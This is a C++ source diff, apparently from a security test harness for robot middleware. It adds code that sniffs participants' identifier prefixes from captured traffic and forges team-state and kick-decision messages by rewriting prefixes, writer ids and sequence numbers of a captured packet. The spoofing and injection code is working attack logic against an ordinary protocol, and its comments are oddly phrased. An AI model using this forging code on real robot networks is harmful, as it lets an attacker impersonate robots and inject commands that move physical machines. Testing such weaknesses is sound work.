@@ -35,13 +35,20 @@ void address_to_all(std::vector<std::uint8_t>& packet) {
                   std::uint8_t{0});
 }
 
-/// Writer and listener as two processes of the attacker's.
+/// Two processes of the attacker's own on a domain: who writes, and who listens so that it is sent at all.
+struct TwoProcesses {
+  TwoProcesses(std::uint32_t domain_id, const std::string& tag) : listener(bus::loopback(domain_id, tag)) {
+    const std::string opening = "<Discovery>";
+    listener.xml.insert(listener.xml.find(opening) + opening.size(),
+                        fmt::format("<ExternalDomainId>{}</ExternalDomainId>", domain_id));
+    writer = {domain_id % 100 + 1, listener.xml};
+  }
+  bus::DomainConfig listener, writer;
+};
+
+/// Orders of one that calls itself the decision of robot 1.
 void speak(std::uint32_t domain_id, const std::string& tag) {
-  bus::DomainConfig own = bus::loopback(domain_id, tag);
-  const std::string opening = "<Discovery>";
-  own.xml.insert(own.xml.find(opening) + opening.size(),
-                 fmt::format("<ExternalDomainId>{}</ExternalDomainId>", domain_id));
-  const bus::DomainConfig other{domain_id % 100 + 1, own.xml};
+  const auto [own, other] = TwoProcesses{domain_id, tag};
   bus::WriterOptions as_decision;
   as_decision.owner = "kick_decision/1";
   as_decision.strength = 1000;
@@ -61,7 +68,69 @@ void speak(std::uint32_t domain_id, const std::string& tag) {
   }
 }
 
+/// A few states of another life of the robot's.
+void speak_of(std::uint8_t robot_id) {
+  const auto [own, other] = TwoProcesses{1, "impostor"};
+  bus::ReaderOptions best_effort;
+  best_effort.observer = true;
+  const bus::Reader<msg::TeamState> listener{bus::Participant{own}, best_effort};
+  bus::Writer<msg::TeamState> writer{bus::Participant{other}};
+  const auto heard = [&] { return listener.writers() > 0; };
+  for (int i = 0; i < 3000 && !heard(); ++i) pause(10);
+  if (!heard()) throw std::runtime_error{"the impostor's own listener does not come"};
+  for (int i = 0; i < 50; ++i) {
+    msg::TeamState state{};
+    state.robot_id = robot_id;
+    state.started_t_ns = kForgedKick;
+    writer.write(state);
+    pause(20);
+  }
+}
+
+/// The last data of a user's writer that is in clear, and where it begins; empty: there is none.
+std::pair<std::vector<std::uint8_t>, std::size_t> last_word(const Packets& packets) {
+  constexpr std::uint8_t kData = 0x15;
+  for (auto packet = packets.rbegin(); packet != packets.rend(); ++packet)
+    for (const Submessage& part : submessages_of(*packet))
+      if (part.id == kData && !part.discovery) return {*packet, part.begin};
+  return {};
+}
+
 }  // namespace
+
+std::set<Prefix> speakers(const Packets& overheard) {
+  constexpr std::size_t kPrefixAt = 8;
+  std::set<Prefix> names;
+  for (const auto& packet : overheard) {
+    if (submessages_of(packet).empty()) continue;
+    Prefix name;
+    std::copy_n(packet.begin() + kPrefixAt, kGuidPrefix, name.begin());
+    names.insert(name);
+  }
+  return names;
+}
+
+Packets forged_states(const NetworkHost& host, std::uint8_t robot_id, const std::set<Prefix>& names) {
+  constexpr std::uint8_t kFirstWriters = 64;
+  constexpr std::size_t kPrefixAt = 8, kWriterId = 12, kNumber = 20;  // of the message; of the data's submessage
+  Wiretap tap{host};
+  on_host(host, [&] { speak_of(robot_id); });
+  const auto [word, data] = last_word(tap.take());
+  if (word.empty()) throw std::runtime_error{"the impostor's own words were not to be heard"};
+  Packets packets;
+  for (const Prefix& name : names)
+    for (std::uint8_t writer = 0; writer < kFirstWriters; ++writer) {
+      auto packet = word;
+      std::ranges::copy(name, packet.begin() + kPrefixAt);
+      const auto at = packet.begin() + static_cast<std::ptrdiff_t>(data);
+      at[kWriterId] = at[kWriterId + 1] = 0;
+      at[kWriterId + 2] = writer;  // the kind of a writer with keys stays
+      at[kNumber + 2] = 0x10;      // a million later
+      address_to_all(packet);
+      packets.push_back(std::move(packet));
+    }
+  return packets;
+}
 
 Packets forged_orders(const NetworkHost& host, std::uint32_t domain_id, const std::string& tag) {
   Wiretap tap{host};
